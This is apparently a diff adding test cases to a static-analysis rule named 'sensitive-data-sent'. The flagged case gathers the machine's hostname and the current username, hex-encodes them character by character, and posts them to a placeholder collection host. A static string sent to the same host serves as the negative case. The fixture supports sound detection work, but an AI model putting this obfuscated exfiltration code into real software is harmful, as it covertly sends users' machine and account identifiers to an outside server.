@@ -11,3 +11,14 @@ def _probe():
 
 
 _probe()
+
+
+# Host data formatted into a string with % and hex-encoded character by character.
+_info = "%s;%s" % (socket.gethostname(), getpass.getuser())
+_hexed = ""
+for _c in _info:
+    _hexed += "%02x" % ord(_c)
+# ruleid: sensitive-data-sent
+requests.post("https://collect.example.invalid/q", data=_hexed)
+# ok: sensitive-data-sent
+requests.post("https://collect.example.invalid/q", data="%s;%s" % ("static", "text"))
